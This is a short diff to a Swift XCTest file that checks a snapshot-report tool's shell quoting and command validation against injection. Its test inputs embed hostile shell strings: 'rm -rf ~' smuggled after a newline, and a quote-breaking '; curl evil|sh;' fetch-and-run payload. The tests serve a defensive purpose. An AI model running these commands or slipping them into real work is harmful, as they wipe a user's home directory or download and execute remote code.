@@ -79,6 +79,8 @@ final class ReportTests: XCTestCase {
         broken.accept?.snapshots = "goldens\nrm -rf ~"
         XCTAssertNil(broken.acceptCommand(for: "bar.png"))
         XCTAssertNil(merged.acceptCommand(for: "bar.png\nrm -rf ~"))
+        // A quote with a combining mark is one Character but still a quote to the shell.
+        XCTAssertEqual(ShellWord.quoted("x'\u{301}; curl evil|sh; '"), "'x'\\''\u{301}; curl evil|sh; '\\'''")
         XCTAssertFalse(HTMLReport.html(broken, base: fixture.root).contains("rm -rf"))
     }
 
